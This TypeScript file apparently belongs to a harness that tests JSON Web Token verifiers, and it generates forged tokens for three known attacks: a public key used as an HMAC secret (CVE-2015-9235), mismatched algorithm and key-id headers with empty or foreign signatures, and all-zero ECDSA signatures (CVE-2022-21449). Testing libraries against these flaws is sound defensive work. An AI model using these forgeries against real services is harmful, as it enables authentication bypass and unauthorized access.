/** Forgeries by somebody who knows the public keys, as everybody does. */
import type { KeyObject } from 'node:crypto'
import { sign } from 'node:crypto'
import { base64url, decode, hmac, parts } from '../forge.ts'
import { KEY_PAIRS, keyPairOf } from '../key-pairs.ts'
import { attack } from './attack.ts'

const FOREIGN = KEY_PAIRS.map(({ algorithm }) => keyPairOf(algorithm))
const ALGORITHMS = ['HS256', 'HS384', 'HS512', 'ES256', 'ES384', 'RS256', 'PS256', 'EdDSA', 'Ed25519', 'none']

/** The ways in which libraries may read a public key as the bytes of a secret */
function bytesOf(key: KeyObject): readonly (readonly [string, Buffer])[] {
  const jwk = key.export({ format: 'jwk' })
  const pem = key.export({ type: 'spki', format: 'pem' }).toString()
  return [
    ['PEM', Buffer.from(pem)],
    ['PEM without its last line break', Buffer.from(pem.trimEnd())],
    ['DER', key.export({ type: 'spki', format: 'der' })],
    ['JWK', Buffer.from(JSON.stringify(jwk))],
    ['x or n', Buffer.from(String(jwk.x ?? jwk.n), 'base64url')],
    ['x or n as text', Buffer.from(String(jwk.x ?? jwk.n))],
  ]
}

attack('RFC 8725 §2.1, CVE-2015-9235: a public key taken for a secret', ({ token, publicKeys }) => {
  const { header } = decode(token)
  const [, payload] = parts(token)
  return publicKeys.flatMap(({ kid, publicKey }) =>
    bytesOf(publicKey).flatMap(([form, bytes]) =>
      ['HS256', 'HS384', 'HS512', 'RS256', 'ES256', 'EdDSA'].flatMap((alg) =>
        [
          { alg, typ: header['typ'] },
          { alg, typ: header['typ'], kid },
          { ...header, alg },
        ].map((forged) => {
          const input = `${base64url(forged)}.${payload}`
          const hash = alg.startsWith('HS') ? `sha${alg.slice(2)}` : 'sha256'
          return {
            what: `${JSON.stringify(forged)}, ${form}`,
            token: `${input}.${hmac(input, bytes, hash)}`,
          }
        }),
      ),
    ),
  )
})

attack('RFC 8725 §3.1: the algorithm of one key with the name of another', ({ token, publicKeys }) => {
  const { header } = decode(token)
  const [, payload, signature] = parts(token)
  const typ = header['typ']
  const kids = [...publicKeys.map(({ kid }) => kid), undefined]
  const headers = ALGORITHMS.flatMap((alg) => kids.map((kid) => ({ alg, typ, ...(kid && { kid }) }))).filter(
    ({ alg, kid }) => alg !== header['alg'] || kid !== header['kid'],
  )
  return headers.flatMap((forged) => {
    const input = `${base64url(forged)}.${payload}`
    const made = (key: KeyObject, hash: string | null, dsaEncoding: 'der' | 'ieee-p1363' = 'ieee-p1363') =>
      sign(hash, Buffer.from(input), { key, dsaEncoding }).toString('base64url')
    const what = JSON.stringify(forged)
    return [
      { what: `${what}, the live signature`, token: `${input}.${signature}` },
      { what: `${what}, no signature`, token: `${input}.` },
      ...FOREIGN.flatMap(({ algorithm, privateKey }) => {
        const hash = algorithm === 'EdDSA' ? null : 'sha256'
        return [
          { what: `${what}, a foreign ${algorithm} key`, token: `${input}.${made(privateKey, hash)}` },
          { what: `${what}, the same in DER`, token: `${input}.${made(privateKey, hash, 'der')}` },
        ]
      }),
    ]
  })
})

attack('CVE-2022-21449: signatures of nothing', ({ token, publicKeys }) => {
  const { header } = decode(token)
  const [, payload] = parts(token)
  const zeros = [0, 1, 32, 63, 64, 65, 256].map((length) => Buffer.alloc(length))
  const ones = Buffer.alloc(64)
  ones[31] = 1
  ones[63] = 1
  return [
    header,
    ...publicKeys.map(({ kid, algorithm }) => ({ alg: algorithm, typ: header['typ'], kid })),
  ].flatMap((forged) =>
    [...zeros, ones].map((bytes) => ({
      what: `${JSON.stringify(forged)}, ${bytes.length} bytes`,
      token: `${base64url(forged)}.${payload}.${bytes.toString('base64url')}`,
    })),
  )
})
